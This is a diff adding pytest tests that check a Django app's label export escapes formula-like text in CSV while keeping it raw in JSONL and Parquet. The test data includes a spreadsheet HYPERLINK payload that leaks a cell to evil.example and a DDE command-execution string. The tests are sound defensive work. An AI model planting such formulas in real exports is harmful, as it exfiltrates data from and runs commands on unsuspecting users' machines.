@@ -27,6 +27,8 @@ from training import pipeline
 from training.models import ModelVersion, RetrainBatch, RunStatus, TrainingRun
 from training.services import batches as batch_services
 from training.services import runs as run_services
+from webapp import exports
+from webapp.exports import Column
 
 pytestmark = pytest.mark.django_db
 
@@ -340,6 +342,59 @@ def test_a_csv_is_sent_whatever_the_accept_header_asks(reviewer: User, annotator
     _label_items(annotator)
     response = client_for(reviewer).get("/api/v1/labels/export", {"output": "csv"}, HTTP_ACCEPT="text/csv")
     assert len(_rows(response, "csv")) == len(PLAN)
+
+
+# --- CSV injection -------------------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_a_csv_shows_a_formula_like_title_as_text_and_jsonl_and_parquet_keep_it(
+    reviewer: User, annotator: User
+) -> None:
+    tasks, _ = _label_items(annotator)
+    Product.objects.filter(id=tasks[0].product_id).update(title=EVIL)
+    Product.objects.filter(id=tasks[1].product_id).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
+    client = client_for(reviewer)
+
+    by_output = {
+        output: {r["task_id"]: r for r in _rows(client.get("/api/v1/labels/export", {"output": output}), output)}
+        for output in FORMATS
+    }
+    csv_rows, jsonl_rows = by_output["csv"], by_output["jsonl"]
+    assert csv_rows[str(tasks[0].id)]["product_title"] == "'" + EVIL
+    assert csv_rows[str(tasks[1].id)]["product_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert jsonl_rows[tasks[0].id]["product_title"] == EVIL
+    assert by_output["parquet"][tasks[0].id]["product_title"] == EVIL
+    # numbers are not text: prices, ids and plain titles come out as they are
+    assert csv_rows[str(tasks[0].id)]["price"] == "55.00"
+    assert csv_rows[str(tasks[2].id)]["product_title"] == tasks[2].product.title
+
+
+def test_csv_escapes_formula_starts_in_text_columns_only() -> None:
+    columns = (
+        Column("title"),
+        Column("price"),
+        Column("delta", int),
+        Column("score", float),
+        Column("names", list),
+    )
+    rows = [
+        {"title": "+1+cmd", "price": "-12.50", "delta": -3, "score": -0.5, "names": ["-x", "y"]},
+        {"title": "\tTab", "price": "-1+2", "delta": 0, "score": 1.0, "names": []},
+        {"title": "\rCR", "price": "7", "delta": 1, "score": None, "names": None},
+        {"title": "a=b", "price": "+5", "delta": 2, "score": 2.0, "names": ["@me"]},
+    ]
+    body = b"".join(exports.csv_chunks(rows, columns)).decode()
+    parsed = list(csv.reader(io.StringIO(body)))
+    assert parsed[1:] == [
+        ["'+1+cmd", "-12.50", "-3", "-0.5", "'-x;y"],
+        ["'\tTab", "'-1+2", "0", "1.0", ""],
+        ["'\rCR", "7", "1", "", ""],
+        ["a=b", "+5", "2", "2.0", "'@me"],
+    ]
+    jsonl = [json.loads(line) for line in b"".join(exports.jsonl_chunks(rows, columns)).decode().splitlines()]
+    assert [r["title"] for r in jsonl] == ["+1+cmd", "\tTab", "\rCR", "a=b"]
 
 
 def test_a_large_export_streams_in_chunks_with_a_fixed_number_of_queries(
